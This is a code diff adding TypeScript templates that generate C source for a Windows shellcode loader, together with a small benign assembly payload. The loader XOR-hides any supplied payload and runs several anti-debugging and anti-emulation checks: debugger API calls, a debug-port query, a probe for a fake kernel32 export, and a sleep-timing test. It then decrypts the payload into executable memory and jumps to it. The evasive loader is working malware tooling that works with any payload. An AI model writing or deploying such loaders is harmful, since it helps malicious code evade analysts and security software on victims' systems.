@@ -18,3 +18,41 @@ int main(int argc, char **argv) {
   return 0;
 }
 `
+
+/** A loader in C: looks for debuggers in all the ways that the system offers, then decrypts code into new memory and goes there. */
+export const loader = (payload: Buffer, isCareful: boolean) => `
+#include <windows.h>
+static unsigned char hidden[] = { ${[...payload].map((byte) => byte ^ 0x77).join(',')} };
+typedef LONG (WINAPI *Query)(HANDLE, int, PVOID, ULONG, PULONG);
+static int isWatched(void) {
+  BOOL remote = FALSE;
+  ULONG_PTR port = 1;
+  DWORD before = GetTickCount();
+  Query query = (Query)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtQueryInformationProcess");
+  CheckRemoteDebuggerPresent(GetCurrentProcess(), &remote);
+  if (IsDebuggerPresent() || remote || !query) return 1;
+  if (query(GetCurrentProcess(), 7, &port, sizeof port, 0) != 0 || port != 0) return 1;
+  if (GetProcAddress(GetModuleHandleA("kernel32.dll"), "NoSuchFunctionAnywhere")) return 1;
+  Sleep(500);
+  DWORD after = GetTickCount();
+  return after - before < 500 || after - before > 2000;
+}
+int main(void) {
+  if (${isCareful ? 'isWatched()' : '0'}) return 1;
+  unsigned char *code = VirtualAlloc(0, sizeof hidden, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
+  for (unsigned i = 0; i < sizeof hidden; i++) code[i] = hidden[i] ^ 0x77;
+  ((void (*)(void))code)();
+  return 0;
+}
+`
+
+/** Code that runs anywhere: counts, and comes back. */
+export const payloadSource = `
+mov ecx, 1000
+xor eax, eax
+.next: add eax, ecx
+dec ecx
+jnz .next
+ret
+db 'the hidden payload'
+`
